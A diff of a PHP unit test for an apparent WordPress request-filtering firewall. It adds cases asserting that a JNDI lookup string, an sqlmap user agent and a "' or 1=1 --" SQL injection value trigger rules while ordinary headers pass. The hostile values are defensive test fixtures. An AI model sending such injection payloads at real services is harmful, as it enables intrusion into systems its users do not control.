@@ -130,16 +130,12 @@ final class RulesTest extends TestCase {
 		$this->assertSame( 'lookup', $this->rule_of( '/', array( 'HTTP_REFERER' => '${jndi:ldap://x.test}' ) ) );
 		$this->assertSame( 'attack-tool', $this->rule_of( '/', array( 'HTTP_USER_AGENT' => 'sqlmap/1.8#stable' ) ) );
 		$this->assertSame( '', $this->rule_of( '/', array( 'HTTP_USER_AGENT' => 'Mozilla/5.0 (X11; Linux)' ) ) );
-		$this->assertSame(
-			'',
-			$this->rule_of(
-				'/',
-				array(
-					'HTTP_X_WP_NONCE' => '0123456789',
-					'HTTP_COOKIE'     => '<script>',
-				)
-			)
-		);
+		$this->assertSame( 'lookup', $this->rule_of( '/', array( 'CONTENT_TYPE' => '${jndi:ldap://x.test}' ) ) );
+		$this->assertSame( '', $this->rule_of( '/', array( 'CONTENT_TYPE' => 'multipart/form-data; boundary="----=_Part(1)"' ) ) );
+		$this->assertSame( 'sql-always', $this->rule_of( '/', array( 'PHP_AUTH_USER' => "a' or 1=1 -- " ) ) );
+		$this->assertSame( '', $this->rule_of( '/', array( 'PHP_AUTH_USER' => 'ann.o’neil+shop@example.org' ) ) );
+		$secrets = array( 'HTTP_X_WP_NONCE' => '0123456789', 'HTTP_COOKIE' => '<script>' ); // phpcs:ignore WordPress.Arrays.ArrayDeclarationSpacing.AssociativeArrayFound
+		$this->assertSame( '', $this->rule_of( '/', $secrets ) );
 	}
 
 	public function test_uploaded_files(): void {
